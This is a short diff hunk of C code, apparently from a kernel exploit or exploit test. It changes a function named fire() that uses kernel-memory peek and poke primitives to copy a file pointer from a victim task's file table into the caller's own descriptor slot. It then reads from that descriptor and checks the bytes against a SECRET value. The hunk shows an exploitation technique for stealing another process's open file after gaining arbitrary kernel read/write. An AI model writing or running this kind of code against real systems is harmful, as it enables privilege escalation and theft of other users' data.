@@ -24,7 +24,7 @@ static bool fire(void)
 	const uint64_t task = own_task();
 	char bytes[sizeof(SECRET) - 1] = { 0 };
 
-	poke(file_slot(task, (int)own), file_struct(victim_task(task), VICTIM_FILE));
+	poke(file_slot(task, (int)own), peek(file_slot(victim_task(task), VICTIM_FILE)));
 	call4(__NR_pread64, own, (long)bytes, sizeof(bytes), 0);
 	return bytes_equal(bytes, SECRET, sizeof(bytes));
 }
